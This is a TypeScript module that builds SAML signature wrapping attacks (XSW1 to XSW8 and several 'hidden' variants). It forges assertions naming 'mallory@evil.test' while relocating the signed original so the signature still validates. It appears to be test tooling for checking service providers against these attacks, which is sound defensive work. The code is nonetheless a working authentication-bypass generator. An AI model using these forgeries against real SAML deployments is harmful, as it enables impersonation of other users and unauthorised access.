/**
 * Signature wrapping (Somorovsky and others, "On Breaking SAML", USENIX Security 2012): a forged assertion is where a careless
 * reader looks, the signed original is where the signature still finds it. XSW1 to XSW8 are named as SAML Raider names them.
 */
export interface Wrapping {
  /** One of the named forms, or a `hidden` one with the places below: the signed assertion is hidden, or the whole Response. */
  readonly form:
    | 'xsw1'
    | 'xsw2'
    | 'xsw3'
    | 'xsw4'
    | 'xsw5'
    | 'xsw6'
    | 'xsw7'
    | 'xsw8'
    | 'hidden'
    | 'hidden-response';
  /** Where the original goes in a `hidden` form. */
  readonly place?:
    | 'extensions'
    | 'status-detail'
    | 'advice'
    | 'attribute-value'
    | 'conditions'
    | 'issuer'
    | 'name-id'
    | 'confirmation-data'
    | 'authn-context'
    | 'audience-restriction'
    | 'key-info';
  /** Where the signature stands in a `hidden` form. */
  readonly signature?: 'original' | 'evil' | 'both';
  /** The forged assertion keeps the original's ID. */
  readonly keepsId?: boolean;
}

export const evilNameId = 'mallory@evil.test';

interface Parts {
  readonly response: string;
  readonly assertion: string;
  readonly signature: string;
  readonly bare: string;
  readonly evil: string;
}

export function wrapSignature(xml: string, wrapping: Wrapping): string {
  const { form } = wrapping;
  if (form === 'xsw1' || form === 'xsw2') return wrapResponse(xml, form);
  return form === 'hidden-response' ? hideResponse(xml, wrapping) : wrapAssertion(xml, { ...wrapping, form });
}

function wrapAssertion(
  xml: string,
  wrapping: Wrapping & { readonly form: Exclude<Wrapping['form'], 'xsw1' | 'xsw2' | 'hidden-response'> },
): string {
  const parts = takeParts(xml, wrapping.keepsId === true);
  const withAssertion = (text: string): string => xml.replace(parts.assertion, () => text);
  const evilSigned = insert(parts.evil, parts.signature);
  switch (wrapping.form) {
    case 'xsw3':
      return withAssertion(parts.evil + parts.assertion);
    case 'xsw4':
      return withAssertion(
        parts.evil.replace(/<\/saml:Assertion>$/, () => `${parts.assertion}</saml:Assertion>`),
      );
    case 'xsw5':
      return withAssertion(evilSigned + parts.bare);
    case 'xsw6':
      return withAssertion(insert(parts.evil, intoSignature(parts.signature, parts.bare)));
    case 'xsw7':
      return withAssertion(parts.assertion).replace(
        '<samlp:Status>',
        () => `<samlp:Extensions>${parts.evil}</samlp:Extensions><samlp:Status>`,
      );
    case 'xsw8':
      return withAssertion(
        insert(parts.evil, intoSignature(parts.signature, `<ds:Object>${parts.bare}</ds:Object>`)),
      );
    case 'hidden':
      return hideOriginal(xml, parts, wrapping);
  }
}

function takeParts(xml: string, keepsId: boolean): Parts {
  const assertion = find(xml, /<saml:Assertion[ >].*<\/saml:Assertion>/s);
  const signature = find(assertion, /<ds:Signature[ >].*<\/ds:Signature>/s);
  const bare = assertion.replace(signature, '');
  return { response: xml, assertion, signature, bare, evil: forge(bare, keepsId) };
}

function forge(bare: string, keepsId: boolean): string {
  const forged = bare.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${evilNameId}`);
  return keepsId ? forged : forged.replace(/ ID="[^"]*"/, ' ID="_evil"');
}

function takeResponse(xml: string): { signature: string; bare: string; evil: string } {
  const signature = find(xml, /<ds:Signature[ >].*?<\/ds:Signature>/s);
  const bare = xml.replace(signature, '');
  const evil = bare
    .replace(/ ID="[^"]*"/, ' ID="_evil-response"')
    .replace(/(<saml:Assertion[^>]*) ID="[^"]*"/, '$1 ID="_evil"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${evilNameId}`);
  return { signature, bare, evil };
}

function hideResponse(
  xml: string,
  { signature: where = 'original', place = 'extensions' }: Wrapping,
): string {
  const { signature, bare, evil } = takeResponse(xml);
  const { before, wrap } = places[place];
  const around = where === 'original' ? evil : insert(evil, signature);
  return around.replace(before, () => wrap(where === 'evil' ? bare : xml) + before);
}

function wrapResponse(xml: string, form: 'xsw1' | 'xsw2'): string {
  const { signature, bare, evil } = takeResponse(xml);
  return form === 'xsw1'
    ? insert(evil, intoSignature(signature, `<ds:Object>${bare}</ds:Object>`))
    : insert(evil, bare + signature);
}

function hideOriginal(xml: string, parts: Parts, wrapping: Wrapping): string {
  const { signature = 'original', place = 'extensions' } = wrapping;
  const original = signature === 'evil' ? parts.bare : parts.assertion;
  const evil = signature === 'original' ? parts.evil : insert(parts.evil, parts.signature);
  const { isInEvil, before, wrap } = places[place];
  const hide = (text: string): string => text.replace(before, () => wrap(original) + before);
  return isInEvil
    ? xml.replace(parts.assertion, () => hide(evil))
    : hide(xml.replace(parts.assertion, () => evil));
}

interface Place {
  /** In the forged assertion, or in the Response around it. */
  readonly isInEvil: boolean;
  readonly before: string;
  readonly wrap: (original: string) => string;
}

const as =
  (name: string) =>
  (original: string): string =>
    `<${name}>${original}</${name}>`;

const places: Readonly<Record<NonNullable<Wrapping['place']>, Place>> = {
  extensions: { isInEvil: false, before: '<samlp:Status>', wrap: as('samlp:Extensions') },
  'status-detail': { isInEvil: false, before: '</samlp:Status>', wrap: as('samlp:StatusDetail') },
  issuer: { isInEvil: false, before: '</saml:Issuer>', wrap: (original) => original },
  advice: { isInEvil: true, before: '<saml:AuthnStatement', wrap: as('saml:Advice') },
  'attribute-value': { isInEvil: true, before: '</saml:AttributeValue>', wrap: (original) => original },
  conditions: { isInEvil: true, before: '</saml:Conditions>', wrap: (original) => original },
  'name-id': { isInEvil: true, before: '</saml:NameID>', wrap: (original) => original },
  'confirmation-data': {
    isInEvil: true,
    before: '</saml:SubjectConfirmation>',
    wrap: as('saml:SubjectConfirmationData'),
  },
  'authn-context': { isInEvil: true, before: '</saml:AuthnContext>', wrap: as('saml:AuthnContextDecl') },
  'audience-restriction': {
    isInEvil: true,
    before: '</saml:AudienceRestriction>',
    wrap: (original) => original,
  },
  'key-info': { isInEvil: true, before: '</ds:KeyInfo>', wrap: (original) => original },
};

function insert(element: string, child: string): string {
  return element.replace('</saml:Issuer>', () => `</saml:Issuer>${child}`);
}

function intoSignature(signature: string, child: string): string {
  return signature.replace(/<\/ds:Signature>$/, () => `${child}</ds:Signature>`);
}

function find(text: string, pattern: RegExp): string {
  const found = pattern.exec(text)?.[0];
  if (found === undefined) throw new Error(`The response to wrap has no ${pattern.source}.`);
  return found;
}
